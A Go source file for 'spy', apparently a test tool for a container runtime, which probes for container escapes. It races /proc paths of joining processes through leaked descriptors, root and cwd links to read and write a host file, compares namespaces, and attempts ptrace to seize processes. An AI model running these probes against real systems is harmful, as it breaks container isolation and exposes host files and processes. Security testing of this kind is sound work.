// SPDX-License-Identifier: Apache-2.0

// Command spy is a container's process that looks for a way out through the
// processes which join it, for tests of attacks:
//
//	spy race FILE    tries the files of the next pid over and over
//	spy look FILE    reads pids from stdin and looks at each of those processes
//	spy look-beside FILE    is look at processes of another container
//	spy seize FILE   is look, and then traces each, to run it
//
// FILE is a path of the host that the container does not have. Each way that leads
// somewhere is a line that begins with STOLEN; a file that was found gets a line, too.
package main

import (
	"bufio"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"syscall"
)

// lastFD is the last descriptor to try. A child of the shim has low ones.
const lastFD = 24

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: spy race|look|look-beside|seize FILE")
		os.Exit(2)
	}
	s := spy{file: os.Args[2], found: map[string]int{}}
	fmt.Println("ready")
	switch os.Args[1] {
	case "race":
		s.race()
	case "look", "look-beside", "seize":
		s.beside = os.Args[1] == "look-beside"
		runtime.LockOSThread() // which traces
		for lines := bufio.NewScanner(os.Stdin); lines.Scan(); {
			s.look(lines.Text())
			if os.Args[1] == "seize" {
				s.seize(lines.Text())
			}
			fmt.Println("looked at", lines.Text())
		}
	}
}

type spy struct {
	file   string
	beside bool // the processes are of another container
	found  map[string]int
}

// stolen tells of a way, once in a while.
func (s *spy) stolen(format string, args ...any) {
	text := fmt.Sprintf(format, args...)
	if s.found[text]++; s.found[text] < 10 {
		fmt.Println("STOLEN", text)
	}
}

// race tries the next pid until it is killed. The last pid of the namespace is the
// last word of loadavg.
func (s *spy) race() {
	runtime.LockOSThread()
	loadavg, err := os.Open("/proc/loadavg")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	var buf [128]byte
	for {
		n, _ := loadavg.ReadAt(buf[:], 0)
		f := strings.Fields(string(buf[:n]))
		last, _ := strconv.Atoi(f[len(f)-1])
		dir := "/proc/" + strconv.Itoa(last+1)
		ways := s.ways(dir)
		for range 300 {
			for _, way := range ways {
				s.try(way)
			}
		}
	}
}

// ways are paths that lead to the file if the process has anything of the host.
func (s *spy) ways(dir string) []string {
	up := strings.Repeat("/..", 12)
	ways := []string{dir + "/root" + s.file, dir + "/cwd" + up + s.file}
	for fd := 3; fd <= lastFD; fd++ {
		link := dir + "/fd/" + strconv.Itoa(fd)
		ways = append(ways, link+"/1/root"+s.file, link+up+s.file)
	}
	return ways
}

// try reads the file by a way, and writes to it.
func (s *spy) try(way string) {
	fd, err := syscall.Open(way, syscall.O_RDWR|syscall.O_APPEND|syscall.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer syscall.Close(fd)
	var buf [256]byte
	n, _ := syscall.Pread(fd, buf[:], 0)
	_, err = syscall.Write(fd, []byte("written by the container\n"))
	f := strings.SplitN(way, "/", 6)
	s.stolen("%s: %q, written: %v", strings.Join(f[3:min(5, len(f))], "/"), buf[:n], err == nil)
}

// namespaces are those of which no two processes of a container differ. That of
// cgroups may be an exec's own.
var namespaces = []string{"mnt", "net", "ipc", "uts", "user", "pid"}

// look tries all ways and compares what the process has with what we have. Beside
// its streams it may have the socket by which the shim hears of the execve, and a pipe to
// the one that cloned it.
func (s *spy) look(pid string) {
	dir := "/proc/" + pid
	if _, err := os.Stat(dir + "/status"); err != nil {
		fmt.Println("no process", pid)
		return
	}
	for _, way := range s.ways(dir) {
		s.try(way)
	}
	for _, ns := range namespaces {
		if s.beside && ns != "user" && ns != "pid" {
			continue
		}
		own, _ := os.Readlink("/proc/self/ns/" + ns)
		theirs, err := os.Readlink(dir + "/ns/" + ns)
		if err == nil && own != theirs {
			s.stolen("%s namespace %s", ns, theirs)
		}
	}
	var own, theirs syscall.Stat_t
	seen := syscall.Stat("/", &own) == nil && syscall.Stat(dir+"/root", &theirs) == nil
	if seen && !s.beside && (own.Dev != theirs.Dev || own.Ino != theirs.Ino) {
		s.stolen("root %d:%d", theirs.Dev, theirs.Ino)
	}
	fds, _ := os.ReadDir(dir + "/fd")
	for _, e := range fds {
		target, err := os.Readlink(dir + "/fd/" + e.Name())
		n, _ := strconv.Atoi(e.Name())
		plain := strings.HasPrefix(target, "socket:") || strings.HasPrefix(target, "pipe:")
		if err == nil && n > 2 && !plain {
			s.stolen("descriptor %s is %s", e.Name(), target)
		}
	}
	status, _ := os.ReadFile(dir + "/status")
	for line := range strings.Lines(string(status)) {
		for _, field := range []string{"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "Uid"} {
			if strings.HasPrefix(line, field+":") {
				fmt.Printf("status %s", line)
			}
		}
	}
}

// seize tries to trace a process, which would let it make any system call.
func (s *spy) seize(pid string) {
	n, _ := strconv.Atoi(pid)
	if err := syscall.PtraceAttach(n); err != nil {
		fmt.Println("not traced:", err)
		return
	}
	s.stolen("control of process %d", n)
}
